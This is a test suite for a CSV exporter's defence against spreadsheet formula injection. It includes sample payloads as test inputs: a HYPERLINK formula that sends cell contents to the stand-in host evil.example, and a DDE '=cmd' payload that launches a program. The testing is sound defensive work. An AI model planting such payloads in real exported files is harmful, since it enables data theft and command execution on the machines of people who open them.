// CSV injection: a text cell that a spreadsheet would run as a formula is written with an apostrophe before it,
// and the reader takes exactly that apostrophe off again, so an export imports as the text it was written from.
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  actorSchema,
  atlasDocumentSchema,
  FORMAT_VERSION,
  type AtlasDocument,
} from '../../../server/domain/atlas-document.ts';
import { escapeCell, unescapeCell } from '../../../server/domain/spreadsheet-cells.ts';
import { toCsvFiles } from '../../../server/export/to-csv.ts';
import { parseCsv } from '../../../server/parse/parse-csv.ts';
import { checkSchemas } from '../../../server/validate/check-schemas.ts';
import { emptyRecords } from '../../../server/parse/records.ts';
import { reimport, sampleDocument } from './fixtures.ts';

const EMPTY_DOCUMENT = atlasDocumentSchema.parse({ format: FORMAT_VERSION });

/** OWASP's formula triggers, written out here rather than taken from the code under test. */
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];

/** The cells of one actor's row as an independent RFC 4180 reader sees them, by column name. */
function actorCells(files: ReadonlyMap<string, string>, id: string): Record<string, string> {
  const rows: string[][] = parse((files.get('actors.csv') ?? '').replace(/^\uFEFF/, ''), {
    record_delimiter: '\r\n',
  });
  const [header = [], ...data] = rows;
  const row = data.find((cells) => cells[0] === id) ?? [];
  return Object.fromEntries(header.map((field, index) => [field, row[index] ?? '']));
}

/** The sample document with the actor `bamf` changed; not re-validated, so any text can be put in. */
function withBamf(change: Record<string, unknown>): AtlasDocument {
  const doc = sampleDocument();
  doc.actors = doc.actors.map((actor) => (actor.id === 'bamf' ? { ...actor, ...change } : actor));
  return doc;
}

/** The actor as the CSV reader hands it on, before validation: the cell texts after un-escaping. */
function readBack(files: ReadonlyMap<string, string>, id: string): Readonly<Record<string, unknown>> {
  const { records, issues } = parseCsv('actors.csv', files.get('actors.csv') ?? '');
  expect(issues).toEqual([]);
  const found = records.actors.find((record) => record.data.id === id);
  if (!found) throw new Error(`no actor ${id} read back`);
  return found.data;
}

describe('CSV export against formula injection', () => {
  it.each(TRIGGERS)('puts an apostrophe before a text cell starting with %j and reads it back', (trigger) => {
    const name = `${trigger}HYPERLINK("https://evil.example/?"&A1,"Klick")`;
    const files = toCsvFiles(withBamf({ name, description: `${trigger}1+1`, note: `a note ${trigger}` }));
    const cells = actorCells(files, 'bamf');
    expect(cells.name).toBe(`'${name}`);
    expect(cells.description).toBe(`'${trigger}1+1`);
    expect(cells.note).toBe(`a note ${trigger}`); // only the first character makes a formula
    const data = readBack(files, 'bamf');
    // The reader turns a carriage return into a line feed, as everywhere in a CSV file.
    const expected = (text: string) => text.replace(/\r/g, '\n');
    expect(data.name).toBe(expected(name));
    expect(data.description).toBe(expected(`${trigger}1+1`));
  });

  it('imports formula-like texts again exactly, through the reader and validation', async () => {
    const doc = withBamf({
      name: '=cmd|"/C calc"!A0',
      shortName: '@SUM(1+1)',
      aliases: ['-2+3', 'plain', "'quoted"],
      description: '+49 is not a number here',
      note: "'",
    });
    const cells = actorCells(toCsvFiles(doc), 'bamf');
    expect(cells.name?.startsWith("'=")).toBe(true);
    expect(cells.shortName?.startsWith("'@")).toBe(true);
    expect(cells.aliases?.startsWith("'-")).toBe(true); // the first item starts the cell
    const { document, errors } = await reimport(toCsvFiles(doc));
    expect(errors).toEqual([]);
    expect(document.actors.find((actor) => actor.id === 'bamf')).toMatchObject({
      name: '=cmd|"/C calc"!A0',
      shortName: '@SUM(1+1)',
      aliases: ['-2+3', 'plain', "'quoted"],
      description: '+49 is not a number here',
      note: "'",
    });
  });

  it('keeps a text that genuinely begins with an apostrophe, by doubling it', async () => {
    const names = ["'s-Hertogenbosch", "'=not a formula'", "''", "'@"];
    for (const name of names) {
      const files = toCsvFiles(withBamf({ name }));
      expect(actorCells(files, 'bamf').name).toBe(`'${name}`);
      const { document, errors } = await reimport(files);
      expect(errors).toEqual([]);
      expect(document.actors.find((actor) => actor.id === 'bamf')?.name).toBe(name);
    }
  });

  it('reads a hand-written apostrophe as text unless it protects a formula', () => {
    const csv = [
      'id,kind,name,aliases,sources,lastVerified',
      "a1,agency,'s-Hertogenbosch,'t Hooft|x,doc-a,2026-11-21",
      "a2,agency,'=SUM(A1:A3),'+1,doc-a,2026-11-21",
      'a3,agency,=SUM(A1:A3),-1,doc-a,2026-11-21',
    ].join('\n');
    const { records, issues } = parseCsv('actors.csv', csv);
    expect(issues).toEqual([]);
    expect(records.actors.map(({ data }) => [data.name, data.aliases])).toEqual([
      ["'s-Hertogenbosch", ["'t Hooft", 'x']],
      ['=SUM(A1:A3)', ['+1']],
      ['=SUM(A1:A3)', ['-1']],
    ]);
  });

  it('writes numbers, dates, booleans and ids as they are, a negative number too', () => {
    const doc = sampleDocument();
    // No field of the format holds a negative number (population and area are ≥ 0); the writer still must not
    // turn one into text.
    doc.regions = doc.regions.map((region) => ({ ...region, population: -5, areaKm2: -0.5 }));
    const files = toCsvFiles(doc);
    const regions = files.get('regions.csv') ?? '';
    expect(regions).toContain(',-5,');
    expect(regions).toContain(',-0.5,');
    expect(regions).not.toContain("'-");
    const cells = actorCells(files, 'ak-integration');
    expect([cells.id, cells.since, cells.until, cells.unnamed]).toEqual([
      'ak-integration',
      '2016',
      '2023-02',
      'true',
    ]);
    const { records } = parseCsv('regions.csv', regions);
    expect(records.regions.map(({ data }) => [data.population, data.areaKm2])).toContainEqual([-5, -0.5]);
  });
});

describe('the escape, over arbitrary text (property)', () => {
  /** Strings that start like formulas or with apostrophes more often than chance would have them. */
  const text = fc
    .tuple(
      fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', '\n', "'", "''", "'=", ' '),
      fc.string({ unit: 'binary' }),
    )
    .map(([start, rest]) => start + rest);

  it('undoes itself and never leaves a formula start', () => {
    fc.assert(
      fc.property(text, (value) => {
        const cell = escapeCell(value);
        expect(unescapeCell(cell)).toBe(value);
        expect(TRIGGERS).not.toContain(cell[0]);
      }),
    );
  });

  it('gives back exactly the stored text through toCsvFiles, the CSV reader and the schemas', () => {
    const base = sampleDocument();
    const bamf = base.actors.find((actor) => actor.id === 'bamf');
    if (!bamf) throw new Error('fixture lacks bamf');
    fc.assert(
      fc.property(text, text, fc.array(text.filter((item) => !item.includes('|'))), (name, note, aliases) => {
        // The text as the database would hold it: what the actor schema makes of the raw string.
        const stored = actorSchema.safeParse({ ...bamf, name, note, aliases });
        fc.pre(stored.success);
        const actor = stored.data;
        const files = toCsvFiles({ ...EMPTY_DOCUMENT, actors: [actor] });
        const { records, issues } = parseCsv('actors.csv', files.get('actors.csv') ?? '');
        expect(issues).toEqual([]);
        const { checked } = checkSchemas({ ...emptyRecords(), actors: records.actors });
        expect(checked.actors[0]?.record).toEqual(actor);
      }),
      { numRuns: 100 },
    );
  }, 60_000); // a hundred exports and reads: generous for a busy machine, asserts nothing about speed
});
